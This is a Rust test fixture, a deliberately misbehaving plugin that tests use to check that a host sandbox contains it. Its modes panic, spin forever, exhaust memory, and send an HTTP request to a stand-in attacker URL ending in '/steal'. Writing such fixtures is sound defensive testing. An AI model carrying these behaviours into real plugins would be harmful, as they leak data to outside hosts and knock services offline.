//! Test fixture: a plugin that misbehaves on purpose, so tests can show that
//! the host contains it.

use switchboard_sdk::{Context, Event, Plugin, PluginError, export_plugin, http};

/// The fixture.
pub struct Chaos;

impl Plugin for Chaos {
    fn handle_event(ctx: &Context, _event: Event) -> Result<(), PluginError> {
        match ctx.setting_str("mode").unwrap_or("ok") {
            "trap" => panic!("chaos: deliberate panic"),
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            // Cut off by its deadline on the first attempt only (a loaded
            // machine), fine when tried again.
            "loop-first" if ctx.attempt() <= 1 => {
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            "oom" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "undeclared-host" => {
                http::get("https://evil.example.net/steal").send()?;
                Ok(())
            }
            _ => Ok(()),
        }
    }
}

export_plugin!(Chaos);
